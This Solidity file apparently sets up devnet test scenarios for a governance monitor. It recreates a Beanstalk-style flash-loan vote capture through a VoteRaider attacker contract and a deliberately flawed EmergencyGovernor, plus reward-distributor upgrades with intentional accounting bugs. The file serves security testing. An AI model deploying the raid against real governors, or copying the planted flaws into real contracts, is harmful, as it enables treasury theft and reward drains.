// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Argus governance scenarios, session 3 of issue 23: the flash-loan vote capture with emergency execution
// (Beanstalk, 2022) and the honest upgrade that mis-accrues rewards (Compound proposal 62, 2021), with
// their benign twins. Written for the devnet; no code copied from those protocols.

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {Governor} from "@openzeppelin/contracts/governance/Governor.sol";
import {GovernorSettings} from "@openzeppelin/contracts/governance/extensions/GovernorSettings.sol";
import {GovernorCountingSimple} from "@openzeppelin/contracts/governance/extensions/GovernorCountingSimple.sol";
import {GovernorVotes} from "@openzeppelin/contracts/governance/extensions/GovernorVotes.sol";
import {GovernorVotesQuorumFraction} from "@openzeppelin/contracts/governance/extensions/GovernorVotesQuorumFraction.sol";
import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import {Initializable} from "@openzeppelin/contracts/proxy/utils/Initializable.sol";

/// @notice A lending pool for any ERC-20 that offers ERC-3156 flash loans of what its suppliers deposited.
contract TokenLendingPool is IERC3156FlashLender {
    bytes32 private constant CALLBACK = keccak256("ERC3156FlashBorrower.onFlashLoan");
    mapping(address => mapping(address => uint256)) public supplied;

    function supply(IERC20 token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        supplied[address(token)][msg.sender] += amount;
    }

    function maxFlashLoan(address token) public view returns (uint256) {
        return IERC20(token).balanceOf(address(this));
    }

    function flashFee(address, uint256 amount) public pure returns (uint256) {
        return amount / 10_000; // 1 bp
    }

    function flashLoan(IERC3156FlashBorrower receiver, address token, uint256 amount, bytes calldata data) external returns (bool) {
        require(amount <= maxFlashLoan(token), "too much");
        uint256 fee = flashFee(token, amount);
        IERC20(token).transfer(address(receiver), amount);
        require(receiver.onFlashLoan(msg.sender, token, amount, fee, data) == CALLBACK, "callback");
        IERC20(token).transferFrom(address(receiver), address(this), amount + fee);
        return true;
    }
}

/// @notice A Beanstalk-shaped governor: no timelock (the governor holds the treasury), and an emergency
/// commit that runs a proposal while its vote is open once a supermajority of the supply votes for it.
/// `liveVotes`: votes are weighed at the moment they are cast (true, the flaw) or at the snapshot (false).
contract EmergencyGovernor is Governor, GovernorSettings, GovernorCountingSimple, GovernorVotes, GovernorVotesQuorumFraction {
    bool public immutable liveVotes;
    uint256 public immutable emergencyAge;
    mapping(uint256 => bool) public emergencyCommitted;

    constructor(IVotes token, uint48 votingDelay_, uint32 votingPeriod_, uint256 threshold_, uint256 quorumPercent, bool liveVotes_, uint256 emergencyAge_)
        Governor("Silo Governor")
        GovernorSettings(votingDelay_, votingPeriod_, threshold_)
        GovernorVotes(token)
        GovernorVotesQuorumFraction(quorumPercent)
    {
        liveVotes = liveVotes_;
        emergencyAge = emergencyAge_;
    }

    receive() external payable override {}

    /// @notice Runs an active proposal now, skipping the rest of the vote, when two thirds of the supply voted for it.
    function emergencyCommit(address[] memory targets, uint256[] memory values, bytes[] memory calldatas, bytes32 descriptionHash) external payable returns (uint256) {
        uint256 id = hashProposal(targets, values, calldatas, descriptionHash);
        require(state(id) == ProposalState.Active, "not active");
        require(clock() >= proposalSnapshot(id) + emergencyAge, "too early");
        (, uint256 forVotes, ) = proposalVotes(id);
        uint256 supply = liveVotes ? IERC20(address(token())).totalSupply() : token().getPastTotalSupply(proposalSnapshot(id));
        require(forVotes * 3 >= supply * 2, "no supermajority");
        emergencyCommitted[id] = true;
        emit ProposalExecuted(id);
        for (uint256 i = 0; i < targets.length; ++i) {
            (bool ok, ) = targets[i].call{value: values[i]}(calldatas[i]);
            require(ok, "call failed");
        }
        return id;
    }

    function state(uint256 proposalId) public view override returns (ProposalState) {
        if (emergencyCommitted[proposalId]) return ProposalState.Executed;
        return super.state(proposalId);
    }

    function _getVotes(address account, uint256 timepoint, bytes memory params) internal view override(Governor, GovernorVotes) returns (uint256) {
        if (liveVotes) return token().getVotes(account);
        return super._getVotes(account, timepoint, params);
    }

    function votingDelay() public view override(Governor, GovernorSettings) returns (uint256) {
        return super.votingDelay();
    }

    function votingPeriod() public view override(Governor, GovernorSettings) returns (uint256) {
        return super.votingPeriod();
    }

    function quorum(uint256 blockNumber) public view override(Governor, GovernorVotesQuorumFraction) returns (uint256) {
        return super.quorum(blockNumber);
    }

    function proposalThreshold() public view override(Governor, GovernorSettings) returns (uint256) {
        return super.proposalThreshold();
    }
}

interface IVotingToken {
    function delegate(address to) external;
}

interface IEmergency {
    function castVote(uint256 id, uint8 support) external returns (uint256);
    function emergencyCommit(address[] memory targets, uint256[] memory values, bytes[] memory calldatas, bytes32 descriptionHash) external payable returns (uint256);
}

/// @notice The attacker's contract: borrows the voting token, votes, commits the proposal and repays, in one transaction.
contract VoteRaider is IERC3156FlashBorrower {
    struct Plan {
        IEmergency governor;
        uint256 id;
        address[] targets;
        uint256[] values;
        bytes[] calldatas;
        bytes32 descriptionHash;
    }

    Plan private plan;
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function raid(IERC3156FlashLender lender, address token, uint256 amount, Plan calldata p) external {
        require(msg.sender == owner, "owner");
        plan = p;
        lender.flashLoan(this, token, amount, "");
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        IVotingToken(token).delegate(address(this));
        plan.governor.castVote(plan.id, 1);
        plan.governor.emergencyCommit(plan.targets, plan.values, plan.calldatas, plan.descriptionHash);
        IERC20(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    receive() external payable {}

    function sweep(IERC20 token) external {
        token.transfer(owner, token.balanceOf(address(this)));
        payable(owner).transfer(address(this).balance);
    }
}

/// @notice The reward token a distributor pays out.
contract RewardToken is ERC20 {
    constructor(address holder, uint256 supply) ERC20("Protocol Reward", "PRWD") {
        _mint(holder, supply);
    }
}

/// @notice A staking rewards distributor (UUPS behind an ERC-1967 proxy, owned by governance): stakers of ETH
/// earn `rate` reward tokens per block, shared by stake; each staker's index says how far it was paid.
contract RewardsDistributorV1 is Initializable, UUPSUpgradeable {
    address public owner;
    IERC20 public reward;
    uint256 public rate;
    uint256 public totalStaked;
    uint256 public rewardIndex;
    uint256 public lastBlock;
    mapping(address => uint256) public staked;
    mapping(address => uint256) public userIndex;
    mapping(address => uint256) public accrued;

    event Staked(address indexed user, uint256 amount);
    event Unstaked(address indexed user, uint256 amount);
    event Claimed(address indexed user, uint256 amount);
    event RateChanged(uint256 rate);

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    function initialize(address owner_, IERC20 reward_, uint256 rate_) external initializer {
        owner = owner_;
        reward = reward_;
        rate = rate_;
        lastBlock = block.number;
    }

    function setRate(uint256 rate_) external onlyOwner {
        _updateIndex();
        rate = rate_;
        emit RateChanged(rate_);
    }

    function stake() external payable {
        _accrue(msg.sender);
        staked[msg.sender] += msg.value;
        totalStaked += msg.value;
        emit Staked(msg.sender, msg.value);
    }

    function unstake(uint256 amount) external {
        _accrue(msg.sender);
        staked[msg.sender] -= amount;
        totalStaked -= amount;
        payable(msg.sender).transfer(amount);
        emit Unstaked(msg.sender, amount);
    }

    function claim() external virtual {
        _accrue(msg.sender);
        uint256 amount = accrued[msg.sender];
        accrued[msg.sender] = 0;
        reward.transfer(msg.sender, amount);
        emit Claimed(msg.sender, amount);
    }

    function pending(address user) external view virtual returns (uint256) {
        uint256 index = rewardIndex;
        if (totalStaked > 0) index += ((block.number - lastBlock) * rate * 1e18) / totalStaked;
        return accrued[user] + (staked[user] * (index - userIndex[user])) / 1e18;
    }

    function _updateIndex() internal virtual {
        if (totalStaked > 0) rewardIndex += ((block.number - lastBlock) * rate * 1e18) / totalStaked;
        lastBlock = block.number;
    }

    function _accrue(address user) internal virtual {
        _updateIndex();
        accrued[user] += (staked[user] * (rewardIndex - userIndex[user])) / 1e18;
        userIndex[user] = rewardIndex;
    }

    function _authorizeUpgrade(address) internal override onlyOwner {}
}

/// @notice An honest upgrade: claims can be sent to another address; accounting unchanged.
contract RewardsDistributorV2 is RewardsDistributorV1 {
    function claimTo(address to) external {
        _accrue(msg.sender);
        uint256 amount = accrued[msg.sender];
        accrued[msg.sender] = 0;
        reward.transfer(to, amount);
        emit Claimed(msg.sender, amount);
    }

    function version() external pure returns (string memory) {
        return "2";
    }
}

/// @notice A routine-looking upgrade with an honest bug: staker checkpoints move to a packed struct, but the
/// old per-user indexes are not carried over, so every staker's next accrual starts from index zero and is
/// paid the whole history of the pool again.
contract RewardsDistributorV2Packed is RewardsDistributorV1 {
    struct Checkpoint {
        uint128 index;
        uint128 owed;
    }

    mapping(address => Checkpoint) public checkpoints;

    function claim() external override {
        _accrue(msg.sender);
        uint256 amount = checkpoints[msg.sender].owed + accrued[msg.sender];
        checkpoints[msg.sender].owed = 0;
        accrued[msg.sender] = 0;
        uint256 available = reward.balanceOf(address(this));
        if (amount > available) amount = available;
        reward.transfer(msg.sender, amount);
        emit Claimed(msg.sender, amount);
    }

    function pending(address user) external view override returns (uint256) {
        uint256 index = rewardIndex;
        if (totalStaked > 0) index += ((block.number - lastBlock) * rate * 1e18) / totalStaked;
        return checkpoints[user].owed + accrued[user] + (staked[user] * (index - checkpoints[user].index)) / 1e18;
    }

    function _accrue(address user) internal override {
        _updateIndex();
        Checkpoint storage c = checkpoints[user];
        c.owed += uint128((staked[user] * (rewardIndex - c.index)) / 1e18);
        c.index = uint128(rewardIndex);
    }
}

/// @notice Another honest-looking upgrade with a unit bug: emissions are meant per second, but the
/// elapsed time is taken from the timestamp against the stored block number, so one accrual pays years.
contract RewardsDistributorV2PerSecond is RewardsDistributorV1 {
    function claim() external override {
        _accrue(msg.sender);
        uint256 amount = accrued[msg.sender];
        accrued[msg.sender] = 0;
        uint256 available = reward.balanceOf(address(this));
        if (amount > available) amount = available;
        reward.transfer(msg.sender, amount);
        emit Claimed(msg.sender, amount);
    }

    function _updateIndex() internal override {
        if (totalStaked > 0) rewardIndex += ((block.timestamp - lastBlock) * rate * 1e18) / totalStaked;
        lastBlock = block.timestamp;
    }
}
